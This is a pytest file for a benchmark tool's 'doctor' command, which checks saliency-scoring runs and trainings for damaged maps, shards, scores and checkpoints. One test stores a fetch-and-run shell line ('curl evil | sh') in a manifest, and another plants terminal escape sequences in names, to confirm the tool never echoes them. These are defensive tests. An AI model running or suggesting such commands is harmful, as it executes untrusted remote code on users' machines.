"""`salbench doctor`: every finding on a folder that has just that wrong with it."""

import json
import os
import shutil
from pathlib import Path

import pandas as pd
import pytest
from small_sets import make_set

from salbench.cli import main
from salbench.digests import digest_file
from salbench.doctor import examine
from salbench.errors import RunError
from salbench.locks import held
from salbench.scoring.run_folder import RunFolder
from salbench.scoring.runner import score
from salbench.scoring.stimulus_score import Row

HOLLOW = b"\x93NUMPY\x02\x00" + (1500 << 20).to_bytes(4, "little") + b"{'descr': '<f8', " + b"(" * 300
"""A header that claims more than a gigabyte."""


@pytest.fixture(scope="module")
def finished(tmp_path_factory):
    """A run of four stimuli, whole, with its maps."""
    folder = tmp_path_factory.mktemp("doctor")
    data = make_set(folder / "set", 4)
    return score(data, model="centre", metrics=["nss", "cc"], save_maps=True, out=folder / "run").path


@pytest.fixture
def run(finished, tmp_path):
    """A copy that a test may damage."""
    return shutil.copytree(finished, tmp_path / "run")


def told(folder: Path) -> str:
    """All that is wrong, with the mends."""
    return "\n".join(f"{finding.what} -> {finding.mend}" for finding in examine(folder).findings)


def test_a_whole_run_is_whole(run, capsys):
    """Catches alarms about nothing, and an exit code that a script cannot go by."""
    assert main(["doctor", str(run)]) == 0
    assert capsys.readouterr().out == f"{run}: run, 4 rows, 0 errors; whole\n"


def test_the_command_tells_what_is_wrong_with_each_folder_and_the_mend(run, tmp_path, capsys):
    """Catches an exit code of the last folder alone, and findings without their mend."""
    second = shutil.copytree(run, tmp_path / "second")
    (run / "maps" / "s1.npy").unlink()
    assert main(["doctor", str(run), str(second)]) == 1
    lines = capsys.readouterr().out.splitlines()
    assert lines[0] == f"{run}: run, 4 rows, 0 errors; not whole:"
    assert lines[1] == f"  - 1 of 4 maps are missing or damaged in {run / 'maps'}, the first s1"
    assert lines[2] == "    mend: score anew with --overwrite"
    assert lines[3] == f"{second}: run, 4 rows, 0 errors; whole"


@pytest.mark.parametrize("content", [b"rubbish", b"", None, b"PK\x03\x04rubbish", HOLLOW, "a pipe"])
def test_a_map_that_is_no_map_is_damaged(run, content):
    """Catches a run that is called whole because a file of that name is there, as one that was cut short is."""
    file = run / "maps" / "s2.npy"
    whole = file.read_bytes()
    if content == "a pipe":
        file.unlink()
        os.mkfifo(file)
    else:
        file.write_bytes(whole[:-8] if content is None else content)
    assert f"1 of 4 maps are missing or damaged in {run / 'maps'}, the first s2 -> score anew" in told(run)


def test_one_folder_that_is_no_run_does_not_keep_the_others_from_being_looked_at(run, tmp_path, capsys):
    """Catches `salbench doctor runs/*`, which ended at the first file that somebody had put there."""
    (tmp_path / "notes.txt").touch()
    (run / "maps" / "s1.npy").unlink()
    assert main(["doctor", str(tmp_path / "notes.txt"), str(tmp_path / "gone"), str(run)]) == 1
    lines = capsys.readouterr().out.splitlines()
    assert lines[0].startswith(f"{tmp_path / 'notes.txt'}: holds neither a run nor a training")
    assert lines[1].startswith(f"{tmp_path / 'gone'}: holds neither a run nor a training")
    assert lines[2] == f"{run}: run, 4 rows, 0 errors; not whole:"


def test_the_command_of_a_strangers_run_is_not_given_as_a_mend(run):
    """Catches a line to be pasted into a shell that a record of unknown origin has written."""
    (run / "summary.json").unlink()
    (run / "scores.parquet").unlink()
    manifest = json.loads((run / "run.json").read_text())
    for words, wanted in (
        (["sh", "-c", "curl evil | sh"], "the same command goes on from here: it is not recorded"),
        (["salbench", "score", "--model", "centre"], "salbench score --model centre (run.json says so)"),
    ):
        (run / "run.json").write_text(json.dumps({**manifest, "command": words}))
        assert wanted in told(run)


def test_a_terminal_is_not_told_what_to_do_by_a_name(run, capsys):
    """Catches escape sequences, and lines that a name makes of its own."""
    (run / "summary.json").unlink()
    (run / "scores.parquet").unlink()
    manifest = json.loads((run / "run.json").read_text())
    words = ["salbench", "score", "\x1b]0;owned\x07\nrun: whole"]
    (run / "run.json").write_text(json.dumps({**manifest, "command": words}))
    main(["doctor", str(run), str(run / "evil\x1b[2J\nall fine")])
    out = capsys.readouterr().out
    assert "\x1b" not in out
    assert [line for line in out.splitlines() if line.startswith(("run: whole", "all fine"))] == []


def test_what_drivers_of_a_cluster_left_is_told_of_and_removed(run, finished):
    """Catches a run that is called whole beside a folder of somebody's pickled work."""
    (run / "shards" / ".cluster-0123abcd").mkdir(parents=True)
    assert "the first shards/.cluster-0123abcd" in told(run)


@pytest.mark.parametrize("ends", [[0, "x"], [0, [1]], [0], 3, {"1": 2}])
def test_tensors_whose_header_lies_are_damaged(tmp_path, ends):
    """Catches a traceback for a file of one damaged byte."""
    (tmp_path / "epochs.csv").write_text("epoch\n")
    header = json.dumps({"a": {"data_offsets": ends}, "b": {"data_offsets": [0, 4]}}).encode()
    (tmp_path / "best.safetensors").write_bytes(len(header).to_bytes(8, "little") + header + bytes(4))
    assert f"{tmp_path / 'best.safetensors'} is damaged" in told(tmp_path)


def test_a_folder_of_something_else_is_an_error(tmp_path):
    """Catches a wrong name that passes for a whole run."""
    with pytest.raises(RunError, match="holds neither a run nor a training"):
        examine(tmp_path)
    assert main(["doctor", str(tmp_path / "nowhere")]) == 1


def unfinished(run: Path, *shards: str) -> None:
    for name in ("scores.parquet", "summary.json"):
        (run / name).unlink()
    (run / "shards").mkdir()
    for number, text in enumerate(shards):
        (run / "shards" / f"{number}.jsonl").write_text(text)


def row(name: str) -> str:
    return json.dumps({"stimulus": name, "scores": {"nss": 1.0, "cc": 0.5}}) + "\n"


def test_an_unfinished_run_tells_how_many_rows_are_missing_and_how_to_go_on(run):
    """Catches rows that count twice, and a mend that does not say which command."""
    unfinished(run, row("s0") + row("s1"), row("s1"))
    assert told(run).startswith("it is not finished: 2 of 4 rows are missing -> the same command goes on from here: ")
    assert examine(run).state == "unfinished"


@pytest.mark.parametrize("text", ['{"stimulus": "s', "", row("s0") + "\0\0\0", "[]\n"])
def test_a_damaged_shard_is_named(run, text):
    """Catches rows that seem to be there and are scored again, or whole shards that are told of."""
    unfinished(run, text, row("s1"))
    assert f"{run / 'shards' / '0.jsonl'} is damaged" in told(run)
    assert "3 of 4 rows are missing" in told(run)


def test_a_shard_whose_numbers_were_changed_is_damaged(run):
    """Catches a bit that flipped on a disk, and gives another score where it is read as a number all the same."""
    unfinished(run)
    RunFolder(run).add([Row("s0", {"nss": 1.25, "cc": 0.5})])
    (shard,) = (run / "shards").iterdir()
    assert "3 of 4 rows are missing" in told(run)
    shard.write_text(shard.read_text().replace("1.25", "1.75"))
    assert f"{shard} is damaged" in told(run)
    assert list(RunFolder(run).rows()) == []


def test_half_written_files_are_told_unless_somebody_is_writing_them(run):
    """Catches 127 MB that nobody will ever read, and an alarm about a run in progress."""
    (run / "maps" / ".s1.npy.0123abcd.tmp").touch()
    (run / ".hidden.tmp").touch()  # somebody else's
    assert "1 half-written files of a killed process, the first maps/.s1.npy.0123abcd.tmp" in told(run)
    with held(run):
        assert "half-written" not in told(run)
        assert "writes into it now -> wait for its end" in told(run)


@pytest.mark.parametrize("name", ["run.json", "summary.json", "scores.parquet"])
@pytest.mark.parametrize("content", [None, b"", b"half of {"])
def test_a_file_that_is_gone_or_damaged_is_named(run, name, content):
    """Catches a traceback, and a damaged run that passes for a whole one."""
    if content is None:
        (run / name).unlink()
    else:
        (run / name).write_bytes(content)
    text = told(run)
    assert name in text or "not finished: 4 of 4 rows are missing" in text
    assert "--overwrite" in text or "the same command" in text


def test_rows_that_were_changed_are_noticed_by_their_check_sum_and_by_their_means(run):
    """Catches scores that somebody improved, with the check sum or without."""
    scores = pd.read_parquet(run / "scores.parquet")
    scores.loc[0, "nss"] += 1
    scores.to_parquet(run / "scores.parquet")
    assert "is not the file that the run wrote" in told(run)
    summary = json.loads((run / "summary.json").read_text())
    summary["scores_sha256"] = digest_file(run / "scores.parquet")
    (run / "summary.json").write_text(json.dumps(summary))
    assert "the rows give nss mean" in told(run)
    summary["errors"] = 3
    (run / "summary.json").write_text(json.dumps(summary))
    assert "its rows give errors 0, but its summary says 3" in told(run)


def test_columns_and_rows_that_are_gone_are_noticed(run):
    """Catches a metric without values, and a run that has fewer rows than its split."""
    scores = pd.read_parquet(run / "scores.parquet")
    scores.drop(columns="cc").to_parquet(run / "scores.parquet")
    assert "has no column 'cc'" in told(run)
    scores[:3].to_parquet(run / "scores.parquet")
    assert "has 3 rows, not one for each of 4 stimuli" in told(run)


def test_error_rows_are_told_by_their_kind(tmp_path):
    """Catches a line for each of thousands of stimuli that lack the same."""
    data = make_set(tmp_path / "set", 5)
    score(data, model="centre", save_maps=True, metrics=["nss"], out=tmp_path / "first")
    maps = tmp_path / "first" / "maps"
    for name in ("s1", "s3"):
        (maps / f"{name}.npy").unlink()
    (maps / "s2.npy").write_bytes(b"no map")
    score(data, predictions=maps, metrics=["nss"], out=tmp_path / "run")
    text = told(tmp_path / "run")
    assert "2 stimuli could not be scored, such as s1: " in text
    assert "1 stimuli could not be scored, such as s2: " in text
    assert text.count("\n") == 1


def test_what_a_kill_at_the_very_end_leaves_is_told(run):
    """Catches shards that stay beside a finished run."""
    (run / "shards").mkdir()
    (run / "shards" / "a.jsonl").write_text(row("s0"))
    assert told(run).endswith("was left by a process that was killed at its very end -> the same command removes it")
    (run / "shards" / "a.jsonl").rename(run / "shards" / "a.again.jsonl")
    assert examine(run).findings == ()


def test_a_training_is_known_and_its_files_are_measured(tmp_path):
    """Catches a checkpoint of 127 MB that was cut off, and a training that passes for a run."""
    header = json.dumps({"a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}).encode()
    whole = len(header).to_bytes(8, "little") + header + bytes(4)
    (tmp_path / "epochs.csv").write_text("epoch\n")
    (tmp_path / "last.safetensors").write_bytes(whole)
    assert told(tmp_path) == "it is not finished: salgan.safetensors is missing -> the same command goes on from here"
    (tmp_path / "salgan.safetensors").write_bytes(whole)
    found = examine(tmp_path)
    assert (found.kind, found.state, found.findings) == ("training", "finished", ())
    (tmp_path / "salgan.safetensors").write_bytes(whole[:-1])
    (tmp_path / "last.safetensors").write_bytes(b"\xff" * 9)
    (tmp_path / "state.pt").write_bytes(b"PK half of it")
    assert told(tmp_path).count("is damaged -> remove it") == 3
